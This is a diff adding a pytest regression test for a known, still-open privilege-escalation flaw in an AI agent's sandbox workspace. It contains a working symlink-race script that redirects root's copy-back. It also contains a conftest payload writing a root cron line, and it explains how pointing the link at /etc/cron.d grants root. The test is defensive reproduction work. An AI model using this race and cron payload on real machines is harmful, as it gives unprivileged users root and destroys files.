@@ -299,3 +299,73 @@ def test_a_neighbours_memory_does_not_fail_an_honest_run():
         enclosing.rmdir()
     # Either the honest run passes, or the machine's shortage is nobody's verdict (not judged).
     assert "not_judged" in got or (got["exit"] == 0 and "ok" in got["output"]), got
+
+
+# sbx8-8: a rollout's workspace lives under ``$TMPDIR/repo-agent-ws`` (agent/loop.py), a name
+# any local user can make first: Workspace.create takes the directory whoever owns it. Its
+# owner can rename root's workspace away and put a symlink in its place while the tests run:
+# root mode's copy-back then empties and writes ``CappedWorkspace.workspace``, a path string,
+# through the link: every file of the directory it names removed, and the tests' files
+# written there as root (here: a file the rollout's conftest made). With the link pointing
+# at /etc/cron.d, a local user has root. Shown on a directory of root's own.
+_SWAP = r"""
+import os, sys, time
+ws, victim = sys.argv[1], sys.argv[2]
+deadline = time.monotonic() + 30
+while time.monotonic() < deadline:  # root's tests started (their copy is made): pytest's rootdir names the workspace
+    found = False
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            found = found or f"--rootdir={ws}".encode() in open(f"/proc/{pid}/cmdline", "rb").read()
+        except OSError:
+            pass
+    if found:
+        break
+    time.sleep(0.01)
+os.rename(ws, ws + ".moved")
+os.symlink(victim, ws)
+print("swapped" if found else "never saw the run")
+"""
+
+_SLOW_CONFTEST = """
+import pathlib, time
+pathlib.Path(__file__).with_name("planted").write_text("* * * * * root id > /tmp/owned\\n")
+time.sleep(2)
+"""
+
+
+@pytest.mark.xfail(
+    strict=True, reason="open: sbx8-8 a local user owning $TMPDIR/repo-agent-ws redirects root's copy-back"
+)
+def test_a_local_user_cannot_redirect_roots_copy_back():
+    from agent.suites.loading import load_suite
+    from agent.workspace import Workspace
+
+    if shutil.which("bwrap") is None:
+        pytest.fail("bwrap is not installed")
+    if os.geteuid() != 0:
+        pytest.fail("runs as root (and as nobody through runuser)")
+    tmp = Path(tempfile.mkdtemp(prefix="sbx8-"))  # a /tmp of its own: anyone may make a name there
+    try:
+        tmp.chmod(0o1777)
+        root = tmp / "repo-agent-ws"  # made first by the local user
+        subprocess.run(["runuser", "-u", "nobody", "--", "mkdir", "-m", "0755", str(root)], check=True)
+        victim = tmp / "victim"
+        victim.mkdir()
+        (victim / "precious").write_text("root's\n")
+        suite = load_suite("mini-bugs")
+        ws = Workspace.create(suite, suite.task("fix_gcd"), root)
+        (ws.path / "conftest.py").write_text(_SLOW_CONFTEST)
+        attacker = subprocess.Popen(
+            ["runuser", "-u", "nobody", "--", "/usr/bin/python3", "-c", _SWAP, str(ws.path), str(victim)],
+            stdout=subprocess.PIPE,
+            text=True,
+        )
+        try:
+            ws.run_tests()
+        finally:
+            out, _ = attacker.communicate(timeout=60)
+        assert out.strip() == "swapped", out
+        assert sorted(os.listdir(victim)) == ["precious"], sorted(os.listdir(victim))
+    finally:
+        subprocess.run(["rm", "-rf", str(tmp)], check=False)
